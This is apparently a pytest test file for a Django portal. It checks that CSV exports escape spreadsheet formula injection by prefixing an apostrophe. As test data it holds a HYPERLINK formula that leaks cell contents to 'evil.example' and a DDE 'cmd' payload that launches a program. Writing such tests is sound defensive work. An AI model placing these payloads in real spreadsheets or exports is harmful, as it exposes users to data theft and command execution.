"""CSV exports cannot carry spreadsheet formulas (formula injection), in every export."""

import csv
import datetime
import io

import pytest
from django.urls import reverse

from sern_portal.csv_safety import safe_cell, safe_row
from tests.factories import ApplicantFactory, OrganisationFactory
from tests.members.conftest import make_application

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1, "Click")'


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK])
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Comune di Parma", "", "-3", "-1.50", "-1,50", "+46", 12, -4, 2.5, None])
def test_plain_text_and_numbers_are_kept(value):
    assert safe_cell(value) == value


def test_a_row_is_neutralised_cell_by_cell():
    assert safe_row(["=x", 1, "ok"]) == ["'=x", 1, "ok"]


def read(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_the_desk_csv_neutralises_an_organisation_named_as_a_formula(client, secretariat, settings, tmp_path):
    settings.MEDIA_ROOT = settings.PRIVATE_MEDIA_ROOT = tmp_path
    application = make_application(ApplicantFactory(), state="submitted", name=HYPERLINK)
    type(application).objects.filter(pk=application.pk).update(town="@Town")
    client.force_login(secretariat)
    rows = read(client.get(reverse("desk_export")))
    assert rows[1][1] == "'" + HYPERLINK
    assert rows[1][4] == "'@Town"


def test_the_indicator_csv_neutralises_a_member_named_as_a_formula(client, secretariat):
    OrganisationFactory(name="=cmd|' /C calc'!A0", country="SE", member_since=datetime.date(2020, 1, 1))
    client.force_login(secretariat)
    response = client.get("/en/evaluation/indicators/c-members-without-activity.csv?year=2025")
    names = [row[0] for row in read(response)[1:]]
    assert "'=cmd|' /C calc'!A0" in names
    assert "=cmd|' /C calc'!A0" not in names
